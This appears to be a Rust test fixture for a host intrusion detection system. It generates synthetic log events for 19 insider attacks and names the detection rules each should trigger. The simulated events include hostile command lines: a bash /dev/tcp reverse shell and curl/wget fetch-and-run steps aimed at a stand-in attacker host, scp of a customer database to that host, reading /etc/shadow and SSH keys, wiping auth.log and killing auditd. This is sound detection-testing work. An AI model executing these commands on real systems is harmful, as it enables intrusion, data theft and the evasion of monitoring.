//! Attacks by somebody who is already in: rights taken, traces wiped, doors left open, harm done.
//! It never shows how to do any of it, only what it looks like from the host.

use hidps_wire::{EventKind, FieldValue};

use super::attacks::{ATTACKER, Attack, attack};
use super::story::{HOUR, MINUTE, SECOND, Story};

/// Attacks from inside.
pub(super) static FROM_INSIDE: [Attack; 19] = [
    attack(
        "a user without rights",
        13 * HOUR,
        not_in_sudoers,
        &["sudo used by somebody who may not"],
    ),
    attack(
        "a guessed password of sudo",
        13 * HOUR,
        sudo_guessed,
        &["sudo_repeated_failures", "sudo_guessed"],
    ),
    attack(
        "su from a web shell",
        14 * HOUR,
        su_of_service,
        &["su_by_service_account"],
    ),
    attack(
        "a second root",
        14 * HOUR,
        second_root,
        &["User account with root rights added"],
    ),
    attack(
        "an account for an hour",
        14 * HOUR,
        short_account,
        &[
            "User account added",
            "User added to an administrators group",
            "short_lived_user",
        ],
    ),
    attack(
        "the firewall turned off",
        15 * HOUR,
        firewall_off,
        &["sudo_protection_turned_off", "Firewall stopped"],
    ),
    attack(
        "traces wiped",
        16 * HOUR,
        wipe,
        &["sudo_log_wiped", "log_deleted"],
    ),
    attack(
        "a web shell",
        21 * HOUR,
        web_shell,
        &[
            "shell_by_web_server",
            "recon_by_service",
            "web_script_dropped",
            "watched_file_changed",
        ],
    ),
    attack(
        "a reverse shell",
        21 * HOUR,
        reverse_shell,
        &["shell_over_network"],
    ),
    attack(
        "a miner",
        HOUR,
        miner,
        &[
            "download_and_run",
            "process_from_temporary_directory",
            "miner_started",
            "cpu_exhausted",
            "Scheduled command that loads or hides code",
        ],
    ),
    attack(
        "doors left open",
        22 * HOUR,
        doors,
        &[
            "persistence_file_changed",
            "preload_list_changed",
            "systemd_unit_changed",
        ],
    ),
    attack(
        "a root kit",
        22 * HOUR,
        root_kit,
        &[
            "module_from_odd_place",
            "Kernel module without a valid signature",
        ],
    ),
    attack(
        "files held to ransom",
        23 * HOUR,
        ransom,
        &["watched_file_changed", "files_encrypted"],
    ),
    attack(
        "a killed watcher",
        5 * HOUR,
        watcher,
        &[
            "watcher_attacked",
            "Security service failed",
            "event_storm",
            "Agent lost events",
            "Agent lost events about security",
        ],
    ),
    attack(
        "an exploit of sshd",
        8 * HOUR,
        exploit,
        &["login_service_crashes", "crash_series"],
    ),
    attack(
        "a back door",
        18 * HOUR,
        back_door,
        &["backdoor_port", "odd_listener"],
    ),
    attack(
        "secrets taken",
        18 * HOUR,
        secrets,
        &["key_theft", "shadow_read", "secrets_sent"],
    ),
    attack("a look around", 18 * HOUR, look_around, &["recon_burst"]),
    attack("a full disk", 18 * HOUR, full_disk, &["disk_full"]),
];

fn not_in_sudoers(story: &mut Story, at: i64) {
    let rest = "TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/id";
    story.line(at, "sudo", &format!("erin : user NOT in sudoers ; {rest}"));
}

fn sudo_guessed(story: &mut Story, at: i64) {
    let rest = "TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/id";
    for minute in 0..3 {
        let message = format!("dave : 3 incorrect password attempts ; {rest}");
        story.line(at + minute * MINUTE, "sudo", &message);
    }
    story.sudo(at + 4 * MINUTE, "dave", "/usr/bin/id");
}

fn su_of_service(story: &mut Story, at: i64) {
    story.line(at, "su", "FAILED SU (to root) www-data on pts/4");
}

fn second_root(story: &mut Story, at: i64) {
    let message = "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0";
    story.line(at, "useradd", message);
}

fn short_account(story: &mut Story, at: i64) {
    let message = "new user: name=erin, UID=1010, GID=1010, home=/home/erin, shell=/bin/bash, \
                   from=/dev/pts/0";
    story.line(at, "useradd", message);
    story.line(at + SECOND, "usermod", "add 'erin' to group 'sudo'");
    story.line(at + HOUR, "userdel", "delete user 'erin'");
}

fn firewall_off(story: &mut Story, at: i64) {
    story.sudo(at, "dave", "/usr/sbin/ufw disable");
    story.line(
        at + SECOND,
        "systemd",
        "Stopped ufw.service - Uncomplicated firewall.",
    );
}

fn wipe(story: &mut Story, at: i64) {
    story.sudo(at, "dave", "/usr/bin/rm -f /var/log/auth.log");
    story.file(at + 10, "/var/log/auth.log", "deleted");
}

fn web_shell(story: &mut Story, at: i64) {
    story.file(at, "/srv/shop/uploads/logo.php", "created");
    let server = "/usr/sbin/php-fpm8.2";
    for (number, tool) in ["id", "uname", "ps", "who"].iter().enumerate() {
        let when = at + MINUTE + i64::try_from(number).expect("it is small") * 10 * SECOND;
        story.run(
            when,
            "www-data",
            server,
            "/usr/bin/dash",
            &format!("-c {tool}"),
        );
        story.run(
            when + 5,
            "www-data",
            "/usr/bin/dash",
            &format!("/usr/bin/{tool}"),
            "",
        );
    }
}

fn reverse_shell(story: &mut Story, at: i64) {
    let arguments = format!("-c bash -i >& /dev/tcp/{ATTACKER}/443 0>&1");
    story.run(at, "git", "/usr/bin/perl", "/usr/bin/bash", &arguments);
}

fn miner(story: &mut Story, at: i64) {
    let user = "redis";
    let fetch = format!("-s -o /tmp/kdevtmpfsi http://{ATTACKER}/k");
    story.run(at, user, "/usr/bin/dash", "/usr/bin/curl", &fetch);
    story.run(
        at + 2 * SECOND,
        user,
        "/usr/bin/dash",
        "/tmp/kdevtmpfsi",
        "",
    );
    let command = format!("(redis) CMD (wget -q -O - http://{ATTACKER}/u.sh | sh)");
    story.line(at + MINUTE, "CRON", &command);
    for half in 0..60 {
        story.usage(at + half * 30 * SECOND, [99.5, 55.0, 61.0]);
    }
}

fn doors(story: &mut Story, at: i64) {
    story.file(at, "/root/.ssh/authorized_keys", "modified");
    story.file(at + 1, "/etc/ld.so.preload", "created");
    story.file(at + 2, "/etc/systemd/system/update.service", "created");
}

fn root_kit(story: &mut Story, at: i64) {
    let shell = "/usr/bin/bash";
    story.run(at, "root", shell, "/usr/sbin/insmod", "./rk.ko");
    let message = "rk: module verification failed: signature and/or required key missing - \
                   tainting kernel";
    story.line(at + 5, "kernel", message);
    story.line(
        at + 6,
        "kernel",
        "rk: loading out-of-tree module taints kernel.",
    );
}

fn ransom(story: &mut Story, at: i64) {
    for number in 0..30 {
        let path = format!("/srv/files/{number}.pdf.locked");
        story.file(at + number * SECOND, &path, "moved_to");
    }
}

fn watcher(story: &mut Story, at: i64) {
    story.run(at, "root", "/usr/bin/bash", "/usr/bin/pkill", "-9 auditd");
    let message = "auditd.service: Failed with result 'signal'.";
    story.line(at + 50, "systemd", message);
    for minute in 0..6 {
        let fields = [
            ("event", FieldValue::Text("events_lost".into())),
            ("lost", FieldValue::Integer(900)),
            ("lost_security", FieldValue::Integer(3)),
        ];
        let when = at + minute * MINUTE;
        story.event(when, (EventKind::AgentInfo, "agent"), &fields);
    }
}

fn exploit(story: &mut Story, at: i64) {
    for number in 0..15 {
        let message = format!(
            "sshd[{}]: segfault at 7f00 ip 00007f0000001000 sp 00007fff00001000 error 4 in \
             libc.so.6[7f0000000000+1000]",
            9_000 + number
        );
        story.line(at + number * 10 * SECOND, "kernel", &message);
    }
}

fn back_door(story: &mut Story, at: i64) {
    story.port_opened(at, 4_444, "/tmp/.x/sshd");
}

fn secrets(story: &mut Story, at: i64) {
    let shell = "/usr/bin/bash";
    story.run(
        at,
        "root",
        shell,
        "/usr/bin/cat",
        "/home/alice/.ssh/id_ed25519",
    );
    story.run(
        at + SECOND,
        "root",
        shell,
        "/usr/bin/cp",
        "/etc/shadow /home/dave/x",
    );
    let arguments = format!("customers.sql.gz x@{ATTACKER}:");
    story.run(at + 2 * SECOND, "root", shell, "/usr/bin/scp", &arguments);
}

fn look_around(story: &mut Story, at: i64) {
    let tools = [
        "id", "whoami", "uname", "hostname", "ip", "ss", "ps", "lsblk", "mount", "getcap",
    ];
    for (number, tool) in tools.iter().enumerate() {
        let when = at + i64::try_from(number).expect("it is small") * SECOND;
        story.run(
            when,
            "dave",
            "/usr/bin/bash",
            &format!("/usr/bin/{tool}"),
            "",
        );
    }
}

fn full_disk(story: &mut Story, at: i64) {
    story.usage(at, [20.0, 50.0, 98.5]);
}
